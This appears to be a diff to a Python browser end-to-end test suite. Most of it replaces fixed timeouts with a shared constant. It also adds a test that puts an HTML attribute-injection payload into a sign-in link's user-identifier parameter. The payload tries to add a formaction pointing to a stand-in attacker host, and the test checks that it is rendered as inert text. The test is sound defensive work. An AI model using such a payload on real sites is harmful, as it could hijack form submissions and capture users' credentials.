@@ -8,11 +8,12 @@ import json
 import pathlib
 import sys
 import time
+import urllib.parse
 
 from judge import Judge
 from keyboard import Keyboard
 from pages import Pages
-from webdriver import ELEMENT, Browser, Failure
+from webdriver import ELEMENT, PATIENCE, Browser, Failure
 
 
 class Walk(Keyboard, Pages):
@@ -40,14 +41,14 @@ class Walk(Keyboard, Pages):
             # The page that was there goes while it is asked.
             return False
 
-    def see(self, text, seconds=30):
+    def see(self, text, seconds=PATIENCE):
         """Waits until the page says something: a form was sent, and what comes of it opens."""
         deadline = time.monotonic() + seconds
         while not self.says(text):
             self.expect(time.monotonic() < deadline, f"the page says “{text}”")
             time.sleep(0.1)
 
-    def wait_for(self, text, seconds=60):
+    def wait_for(self, text, seconds=PATIENCE):
         """Reloads the page until it says something, as people do who wait."""
         deadline = time.monotonic() + seconds
         while not self.says(text):
@@ -59,7 +60,7 @@ class Walk(Keyboard, Pages):
         """Presses a form's button and waits for the page that comes of it."""
         self.browser.run("window.isOld = true")
         self.browser.click(self.browser.button(button))
-        deadline = time.monotonic() + 30
+        deadline = time.monotonic() + PATIENCE
         while not self.is_new():
             self.expect(time.monotonic() < deadline, f"something comes of “{button}”")
             time.sleep(0.05)
@@ -75,6 +76,18 @@ class Walk(Keyboard, Pages):
             self.browser.type(self.browser.find(f"[name='{name}']"), value)
 
     # Steps
+
+    def hostile_link(self):
+        """A link to the page for people who enroll writes no markup into it."""
+        link = 'a"\u0301 type=submit formaction=https://evil.example/ x="'
+        self.open("/enroll/account/sign-in?user-identifier=" + urllib.parse.quote(link))
+        self.expect(self.browser.title == "Sign in", "the page to enroll opens")
+        self.expect(not self.browser.find_all("[formaction]"), "the page has no formaction")
+        self.expect(len(self.browser.find_all("input")) == 2, "the page has its two fields")
+        value = self.browser.run("return document.querySelector('[name=account]').value")
+        self.expect(value == link, "what the link names stands in the field as text")
+        width = self.browser.run("return getComputedStyle(document.body).maxWidth")
+        self.expect(width != "none", "the policy lets the page's own style through")
 
     def first_login(self):
         """A one-time password leads to the page that changes it, and to nothing else."""
@@ -92,7 +105,7 @@ class Walk(Keyboard, Pages):
         self.see("You are signed out")
 
     def settle(self, title):
-        deadline = time.monotonic() + 30
+        deadline = time.monotonic() + PATIENCE
         while not self.browser.title.startswith(title):
             self.expect(time.monotonic() < deadline, f"“{title}” does not open")
             time.sleep(0.1)
@@ -223,7 +236,7 @@ class Walk(Keyboard, Pages):
         self.judgement.page("live-job")
 
     def connected(self):
-        deadline = time.monotonic() + 30
+        deadline = time.monotonic() + PATIENCE
         while not self.browser.find_all("main[data-connected]"):
             self.expect(time.monotonic() < deadline, "the page hears what changes")
             time.sleep(0.1)
